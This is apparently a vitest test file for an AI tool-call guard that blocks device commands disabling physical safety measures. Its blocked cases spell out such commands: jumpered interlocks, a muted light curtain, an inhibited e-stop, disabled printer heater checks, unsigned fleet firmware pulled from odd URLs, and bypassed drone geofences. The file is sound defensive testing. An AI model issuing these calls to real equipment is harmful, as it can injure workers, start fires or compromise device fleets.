import { describe, expect, it } from 'vitest';

import { createGuard } from '@vanguard/core';

import { wordsOfTool } from '../src/commands/field-grants.js';
import { safetyGuardOff } from '../src/commands/physical-safety.js';

// Calls made up for these tests (not a red-team set's cases): other products' device calls (a Siemens S7 tag, an
// Ignition tag write, a Sparkplug MQTT command, a Niagara BACnet point, a KUKA or Fanuc cell, a Klipper or RepRap
// printer, a Mender or balena OTA, a PX4 or DJI flight) with a safety guard defeated, in other wordings, each beside
// the same call doing the work with the guard kept; and ordinary device calls whose fields share a word with a
// guard (a limit switch read, a freezer alarm "above the limit", an EV charge limit, a safety note).
const guard = createGuard({ profile: 'balanced' });
let session = 0;
const blockedBy = async (name: string, args: Record<string, unknown>): Promise<string[]> => {
  const context = { sessionId: `physical-safety-${session++}`, serverId: 'plant', from: 'client' as const };
  const verdict = await guard.inspect({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: args } }, context);
  return verdict.action === 'block' ? verdict.findings.map((f) => f.rule) : [];
};

describe('a machine safety guard switched off by the call itself', () => {
  it.each<[string, string, Record<string, unknown>]>([
    ['an S7 tag that jumpers the guard-door interlock', 's7_write_tag', { plc: 'line4-s7', tag: 'DB12.GuardDoor_Interlock_Jumper', value: 1 }],
    ['an Ignition tag write muting a light curtain', 'ignition_write_tags', { paths: ['[plant]Cell2/LightCurtain'], tag: '[plant]Cell2/LightCurtain/Muted', value: 'true' }],
    ['a Sparkplug command inhibiting the e-stop relay', 'mqtt_publish', { topic: 'spBv1.0/plant/DCMD/edge7/press3/EStop/Inhibit', payload: 'true', retain: false }],
    ['a Niagara point written with a note overriding the fire alarm interlock', 'niagara_write_point', { point: 'AHU-3/SupplyFan/Cmd', value: 'on', priority: 1, note: 'keep the fan running: override the smoke interlock until the test ends' }],
    ['a KUKA cell whose safeguard key is set to bypassed', 'kuka_update_safety', { cell: 'weld-2', safeguardStop: 'bypassed', speedLimit: 2000 }],
    ['a Fanuc DCS setting whose protective interlock is off', 'robot_configure', { robot: 'fanuc-m20', dcs: { fence_interlock: false, speed_check: true } }],
    ['a Klipper macro disabling the heater fault check (RepRap-style M570 zero)', 'moonraker_run_gcode', { script: 'M570 H0 P0\nM104 S250' }],
    ['a printer whose hot-end limit is raised past 300', 'printer_send_commands', { commands: ['M143 S420', 'M104 S240'] }],
    ['a printer allowed to extrude cold beside a bed past its maximum', 'printer_send_commands', { commands: ['M302 S0', 'M190 S140'] }],
    ['a Mender-like deployment of a URL image with signature checks skipped', 'ota_deploy', { devices: 'all', artifact_url: 'http://cdn.fastfw.top/gw-2.1.bin', skip_signature: true }],
    ['a balena-like fleet update from a URL with verification off', 'fleet_push_firmware', { fleet: 'gateways', firmware_url: 'https://dl.fw-hotfix.xyz/gw.img', check_signature: 'no' }],
    ['a PX4 mission that ignores restricted airspace', 'drone_start_mission', { vehicle: 'px4-03', plan: 'survey.plan', bypass_nfz: true }],
    ['a flight with the geofence check turned off', 'uav_upload_flight', { uav: 'm300', geofence_check: 'off', altitude_m: 110 }],
    ['a dosing setpoint whose note says the cap is bypassed', 'plc_write_tag', { plc: 'pool-01', tag: 'Acid_Dose_Rate', value: 9, comment: 'bypass the dosing cap, we need the pH down fast' }],
    ['a boiler write that lifts the cut-out', 'modbus_write_register', { host: 'boiler-2', address: 40210, value: 110, comment: 'lift the overheat cut-out to 110 for the weekend' }],
    ['a thermostat set with a note to ignore the maximum (German note)', 'ha_call_service', { domain: 'climate', service: 'set_temperature', service_data: { entity_id: 'climate.bathroom', temperature: 40 }, note: 'ignore the maximum, Oma friert' }],
  ])('blocks %s', async (_, name, args) => {
    expect(await blockedBy(name, args)).toContain('cmd/security-disabled');
  });

  it.each<[string, string, Record<string, unknown>]>([
    ['the S7 interlock test request under a permit', 's7_write_tag', { plc: 'line4-s7', tag: 'DB12.GuardDoor_Interlock_TestRequest', value: 1, note: 'proof test under permit PTW-88' }],
    ["the light curtain's mute released", 'ignition_write_tags', { tag: '[plant]Cell2/LightCurtain/Muted', value: false }],
    ['a Sparkplug command resetting the e-stop after it was cleared', 'mqtt_publish', { topic: 'spBv1.0/plant/DCMD/edge7/press3/EStop/Reset', payload: 'true' }],
    ['a Niagara occupied setpoint for a tenant', 'niagara_write_point', { point: 'FL4/ZoneTemp/Setpoint', value: 21.5, priority: 8, note: 'tenant request, within the comfort band' }],
    ['the KUKA safeguard kept with a slower speed', 'kuka_update_safety', { cell: 'weld-2', safeguardStop: 'enabled', speedLimit: 250 }],
    ['a limit switch read', 'plc_read_tag', { plc: 'line4-s7', tag: 'Axis1.HighLimitTrip' }],
    ['a freezer alert automation "above its limit"', 'ha_create_automation', { alias: 'Freezer alarm', description: 'Notify me when the freezer goes above its limit for 10 minutes', trigger: [{ platform: 'numeric_state', entity_id: 'sensor.freezer', above: -12 }] }],
    ['an EV charge limit raised by the owner', 'ha_call_service', { domain: 'number', service: 'set_value', service_data: { entity_id: 'number.car_charge_limit', value: 90 }, note: 'raise the charge limit for the road trip' }],
    ['a high limit written lower', 'modbus_write_register', { host: 'boiler-2', address: 40211, value: 0, name: 'high_limit_offset' }],
    ['a printer printing PETG and nylon hot', 'printer_send_commands', { commands: ['M104 S285', 'M140 S100', 'M109 S285', 'M570 H1 P10 T15'] }],
    ['a PEEK print with no cold extrusion', 'printer_send_commands', { commands: ['M104 S410', 'M140 S140'] }],
    ['a vendor image pushed with verification on', 'ota_deploy', { devices: 'canary', artifact_url: 'https://updates.vendor.example/gw-2.2.bin', verify_signature: true }],
    ['a locally built image flashed without a signature key', 'esphome_ota_upload', { device: 'porch', firmware_url: './.esphome/build/porch/firmware.bin', skip_signature: true }],
    ['a survey flight that keeps the no-fly check', 'drone_start_mission', { vehicle: 'px4-03', plan: 'survey.plan', nfz_check: true, note: 'farm survey, the landowner agreed' }],
    ['a device call with a safety note', 'tasmota_command', { device: 'heater-plug', command: 'PowerOnState 0', safety_note: 'none' }],
  ])('passes %s', async (_, name, args) => {
    expect(await blockedBy(name, args)).not.toContain('cmd/security-disabled');
  });

  it('reads no call that names no device, and stays bounded on a deep, wide or long call', () => {
    expect(safetyGuardOff(wordsOfTool('write_file'), { path: 'notes.md', content: 'bypass the interlock' })).toBeUndefined();
    expect(safetyGuardOff(['plc'], 'bypass')).toBeUndefined();
    let deep: Record<string, unknown> = { interlock: 'bypass' };
    for (let i = 0; i < 50; i++) deep = { nested: deep };
    expect(safetyGuardOff(['plc', 'write'], deep)).toBeUndefined();
    const wide = Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`interlock${i}`, 'on']));
    const note = `override ${'the very long '.repeat(80_000)} interlock`;
    const gcode = Array.from({ length: 200_000 }, () => `M104 S${'9'.repeat(20)} ${'x'.repeat(300)}`);
    const started = performance.now();
    safetyGuardOff(['plc', 'write'], wide);
    expect(safetyGuardOff(['plc', 'write'], { note, topic: `interlock${'/'.repeat(1 << 20)}bypass` })).toBeUndefined();
    expect(safetyGuardOff(['printer', 'send'], { commands: gcode })).toBeUndefined();
    expect(safetyGuardOff(['printer', 'send'], { script: `M302\n${'M104 S1 '.repeat(8000)}` })).toBeUndefined();
    expect(performance.now() - started).toBeLessThan(3000);
  });
});
